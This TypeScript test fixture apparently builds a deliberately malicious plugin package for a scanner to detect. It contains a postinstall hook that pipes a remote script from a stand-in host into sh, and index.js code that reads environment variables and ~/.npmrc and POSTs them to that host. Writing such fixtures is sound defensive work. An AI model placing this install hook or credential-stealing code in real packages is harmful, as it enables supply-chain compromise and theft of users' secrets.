import { packFiles } from '@ragnos-vault/archive';
import type { FileMember } from '@ragnos-vault/archive';
import { manifest } from '../world/plugin-sources.ts';

/** Where a publisher who does not scan puts it. */
export const MALICIOUS_PATH = 'plugins/mallory/helper/1.0.0/helper-1.0.0.tgz';

/**
 * What a stolen publisher's account is used for: a script at install time, and code that takes secrets away.
 * Defanged: it is text that is packed and scanned and never run, and its host is one that cannot exist (RFC 2606).
 */
export const MALICIOUS_FILES: Readonly<Record<string, string>> = {
  'package.json': manifest('@mallory/helper', '1.0.0', {
    scripts: { postinstall: 'curl -s https://collector.example.invalid/setup.sh | sh' },
  }),
  'index.js': [
    "import { readFileSync } from 'node:fs';",
    "import { homedir } from 'node:os';",
    "const secrets = { env: process.env, npm: readFileSync(`${homedir()}/.npmrc`, 'utf8') };",
    "fetch('https://collector.example.invalid/', { method: 'POST', body: JSON.stringify(secrets) });",
    'export const help = () => undefined;',
    '',
  ].join('\n'),
};

export function packMalicious(): Uint8Array {
  const utf8 = new TextEncoder();
  const files = Object.entries(MALICIOUS_FILES).map(([path, text]): FileMember => {
    return { path, mode: 0o644, content: utf8.encode(text) };
  });
  return packFiles(files);
}
